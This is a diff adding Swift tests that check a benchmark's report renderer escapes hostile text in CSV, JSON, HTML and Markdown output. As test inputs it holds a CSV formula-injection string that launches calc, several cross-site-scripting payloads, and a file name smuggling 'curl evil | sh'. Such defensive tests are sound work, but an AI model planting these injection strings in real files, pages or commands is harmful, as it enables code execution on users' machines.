@@ -1,3 +1,5 @@
+import BenchmarkStore
+import Foundation
 import ReportRendering
 import Testing
 
@@ -27,6 +29,73 @@ struct HostileTextTests {
     func markdown(_ text: String) {
         let data = ReportData(SampleRun.input(methods: ["copy", "linear", "ties"], output: text, title: text))
         #expect(MarkdownBalance.fault(in: MarkdownLeaderboard.render(ReportPage(data))) == nil)
+    }
+
+    private static let formulas = ["=cmd|'/c calc'!A1", "+1", "-1+2", "@SUM(1)", "\t=1", "＝1", "=1,\"2\"\n3"]
+
+    @Test("become no formula in leaderboard.csv, and no further column or row", arguments: hostile + formulas)
+    func csv(_ text: String) {
+        var input = SampleRun.input(methods: ["copy", "linear", "ties"], output: text, title: text)
+        let plain = ResultFiles.csv(ReportData(input))
+        for index in input.metrics.indices { input.metrics[index].name = text }
+        for file in [plain, ResultFiles.csv(ReportData(input))] {
+            let records = DelimitedText.records(of: file)
+            #expect(records.count > 3 && Set(records.map(\.count)) == [17])
+            for field in records.joined() {
+                let isNumber = Double(field) != nil
+                #expect(
+                    isNumber || field.unicodeScalars.first.map { !"=+-@\t\r\n＝＋－＠".unicodeScalars.contains($0) } ?? true
+                )
+            }
+        }
+    }
+
+    @Test("come out of results.json as they went in", arguments: hostile)
+    func json(_ text: String) throws {
+        struct Results: Decodable {
+            let report: ReportData
+        }
+        let data = ReportData(SampleRun.input(methods: ["copy", "linear"], output: text, title: text))
+        let results = try JSONDecoder().decode(Results.self, from: Data(try ResultFiles.json(data).utf8))
+        #expect(results.report == data)
+    }
+
+    @Test(
+        "add neither an event handler nor an address to the page",
+        arguments: [
+            "\" onload=\"alert(1)", "'><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
+            "data:text/html,<script>alert(1)</script>", "</style><script>alert(1)</script>", "x\"\u{301} onclick=\"y",
+        ])
+    func attributes(_ text: String) throws {
+        var input = SampleRun.input(methods: ["copy", "linear", "ties"], output: text, title: text)
+        input.run.profileName = text
+        input.run.model.name = text
+        input.run.corpora[0].title = text
+        input.run.corpora[0].language = text
+        input.settings[0].targetLabel = text
+        input.settings[0].target = text
+        let page = try HTMLReport().render(
+            ReportPage(ReportData(input), title: text, description: text, commands: [text]))
+        #expect(TagBalance.fault(in: page) == nil)
+        // Every tag has attributes of ours alone, and none that runs or loads anything.
+        let tags = page.matches(of: #/<[a-z0-9]+((?:\s+[A-Za-z0-9-]+(?:="[^"]*")?)*)\s*/?>/#)
+        #expect(tags.count == page.matches(of: #/<[a-z]/#).count)
+        let names = Set(
+            tags.flatMap { tag in tag.1.matches(of: #/([A-Za-z0-9-]+)(?:="[^"]*")?/#).map { String($0.1) } })
+        let known: Set<String> = [
+            "lang", "dir", "charset", "name", "content", "aria-label", "aria-labelledby", "href", "id", "class", "role",
+            "tabindex", "scope", "x", "y", "x1", "x2", "y1", "y2", "cx", "cy", "r", "viewBox",
+        ]
+        #expect(names.isSubset(of: known), "\(names.subtracting(known))")
+        #expect(page.matches(of: #/href="([^"]*)"/#).allSatisfy { $0.1.hasPrefix("#") })
+    }
+
+    @Test("cannot be a command of their own in the command lines that a report shows")
+    func commands() {
+        var input = SampleRun.input(methods: ["copy"])
+        input.run.profileName = "x.yml; curl evil | sh # it's"
+        let page = MarkdownLeaderboard.render(ReportPage(ReportData(input)))
+        #expect(page.contains(#"--profile 'Benchmark/x.yml; curl evil | sh # it'\''s.yml'"# + "\n"))
     }
 
     @Test("names of runs, settings and documents are escaped too")
